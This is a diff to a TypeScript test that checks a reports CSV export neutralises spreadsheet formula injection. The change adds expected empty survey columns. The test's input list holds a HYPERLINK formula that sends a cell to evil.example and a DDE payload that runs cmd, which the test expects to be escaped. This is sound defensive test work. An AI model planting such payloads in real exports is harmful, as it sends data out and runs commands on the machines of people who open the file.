@@ -10,6 +10,9 @@ import { getReport } from './report-client.js';
 // a spreadsheet runs a formula: a link that sends the sheet's cells away, DDE, arithmetic.
 const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
 
+/** The survey columns of an agent who took no call: zero counts, empty averages and rates, CSAT 1…5 none. */
+const NO_SURVEYS = '0,0,,,0,,0,0,0,0,,0,0,0,0,0,0';
+
 describe('Reports CSV: formula injection (OWASP CSV injection)', () => {
   let server: TestServer;
   before(async () => (server = await startTestServer({ env: { CENTRE_TIMEZONE: 'UTC' } })));
@@ -38,10 +41,10 @@ describe('Reports CSV: formula injection (OWASP CSV injection)', () => {
     expect(res.status).to.equal(200);
     const lines = (res.body as string).split('\r\n').filter((l) => l.includes(',total,'));
     expect(lines.map((l) => l.replace(/^\d+,/, ''))).to.deep.equal([
-      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",total,1800,0,0,0,`,
-      `'+1+cmd|' /C calc'!A0,total,1800,0,0,0,`,
-      `'-2+3,total,1800,0,0,0,`,
-      `'@SUM(A1:A9),total,1800,0,0,0,`,
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",total,1800,0,0,0,,${NO_SURVEYS}`,
+      `'+1+cmd|' /C calc'!A0,total,1800,0,0,0,,${NO_SURVEYS}`,
+      `'-2+3,total,1800,0,0,0,,${NO_SURVEYS}`,
+      `'@SUM(A1:A9),total,1800,0,0,0,,${NO_SURVEYS}`,
     ]);
     // JSON is data, not a spreadsheet: names are as they were given.
     const json = await getReport(server, '/api/reports/agents?from=2024-03-05T09:00&to=2024-03-05T10:00&interval=hour', {}, token);
